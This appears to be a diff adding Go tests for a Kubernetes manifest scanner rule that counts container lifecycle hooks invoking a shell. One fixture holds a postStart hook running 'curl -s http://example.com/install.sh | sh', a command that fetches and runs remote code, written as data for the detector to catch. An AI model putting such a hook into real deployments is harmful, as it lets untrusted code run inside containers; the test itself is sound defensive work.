@@ -0,0 +1,76 @@
+package rules
+
+import (
+	"testing"
+
+	"github.com/ghodss/yaml"
+)
+
+func Test_ShellLifecycleHook(t *testing.T) {
+	var data = `
+---
+apiVersion: apps/v1
+kind: Deployment
+spec:
+  template:
+    spec:
+      containers:
+      - name: manager
+        lifecycle:
+          postStart:
+            exec:
+              command:
+              - /bin/sh
+              - -c
+              - curl -s http://example.com/install.sh | sh
+      - name: proxy
+        lifecycle:
+          preStop:
+            exec:
+              command:
+              - bash
+              - -c
+              - sleep 5
+`
+
+	json, err := yaml.YAMLToJSON([]byte(data))
+	if err != nil {
+		t.Fatal(err.Error())
+	}
+
+	hooks := ShellLifecycleHook(json)
+	if hooks != 2 {
+		t.Errorf("Got %v hooks wanted %v", hooks, 2)
+	}
+}
+
+func Test_ShellLifecycleHook_HTTPGet(t *testing.T) {
+	var data = `
+---
+apiVersion: v1
+kind: Pod
+spec:
+  containers:
+  - name: manager
+    lifecycle:
+      preStop:
+        httpGet:
+          path: /shutdown
+          port: 8081
+      postStart:
+        exec:
+          command:
+          - /manager
+          - --warm-cache
+`
+
+	json, err := yaml.YAMLToJSON([]byte(data))
+	if err != nil {
+		t.Fatal(err.Error())
+	}
+
+	hooks := ShellLifecycleHook(json)
+	if hooks != 0 {
+		t.Errorf("Got %v hooks wanted %v", hooks, 0)
+	}
+}